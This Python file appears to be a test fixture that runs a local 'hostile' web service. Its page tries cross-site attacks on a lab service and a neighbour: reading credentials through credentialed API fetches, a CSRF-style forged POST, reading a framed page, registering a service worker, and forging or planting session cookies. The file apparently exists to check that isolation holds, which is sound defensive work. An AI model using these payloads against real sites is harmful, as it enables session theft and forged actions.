"""A service whose page tries, in its visitor's browser, to get at what is not its own.

Reads the address of the lab and of a neighbour from its URL; writes what it got into the
page. Run as a command of a service: `python3 hostile.py PORT`.
"""

from __future__ import annotations

import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = """<!doctype html><meta charset="utf-8"><title>Hostile</title><pre id="got"></pre><script>
const here = new URLSearchParams(location.search), lab = here.get("lab"), other = here.get("other");
const tries = {
  cookies: async () => document.cookie,
  api: async () => (await fetch(lab + "/api/auth/me", {credentials: "include"})).text(),
  "api without reading": async () => {
    await fetch(lab + "/api/projects", {method: "POST", credentials: "include", mode: "no-cors",
      headers: {"Content-Type": "text/plain"}, body: '{"name": "forged"}'});
    throw new Error("nothing to read");
  },
  "api here": async () => {
    const answer = await fetch("/api/auth/me");
    if (answer.headers.get("X-Is-Hostile")) throw new Error("only this service answered");
    return answer.text();
  },
  neighbour: async () => (await fetch(other, {credentials: "include"})).text(),
  "neighbour without reading": async () => {
    await fetch(other + "?written", {method: "POST", credentials: "include", mode: "no-cors"});
    throw new Error("nothing to read");
  },
  "lab in a frame": () => new Promise((done, failed) => {
    const frame = document.createElement("iframe");
    frame.src = lab + "/app/";
    frame.onload = () => {
      try { done(frame.contentDocument.body.innerHTML || Promise.reject(new Error("empty"))); }
      catch (error) { failed(error); }
    };
    document.body.append(frame);
  }),
  worker: async () => {
    await navigator.serviceWorker.register(lab + "/app/theme.js");
    return "registered";
  },
};
(async () => {
  const got = {};
  for (const [name, attempt] of Object.entries(lab ? tries : {})) {
    try { got[name] = await attempt(); } catch (error) { got[name] = ""; }
  }
  document.cookie = "lab_session=forged; path=/";
  document.cookie = "lab_app=forged; path=/";
  document.getElementById("got").textContent = JSON.stringify(got);
})();
</script>"""


class Hostile(BaseHTTPRequestHandler):
    """Answers every request with the page; counts what was written to it."""

    written = 0

    def do_GET(self) -> None:
        """Send the page, or the count."""
        body = str(Hostile.written) if self.path.startswith("/written") else PAGE
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("X-Is-Hostile", "yes")
        # Each of these would reach beyond this service.
        self.send_header("Set-Cookie", "lab_session=planted; Path=/")
        self.send_header("Set-Cookie", "wide=planted; Domain=localhost; Path=/")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(body.encode())

    def do_POST(self) -> None:
        """Count a write."""
        if "?written" in self.path:
            Hostile.written += 1
        self.do_GET()

    def log_message(self, *_: object) -> None:
        """Say nothing."""


if __name__ == "__main__":
    ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Hostile).serve_forever()
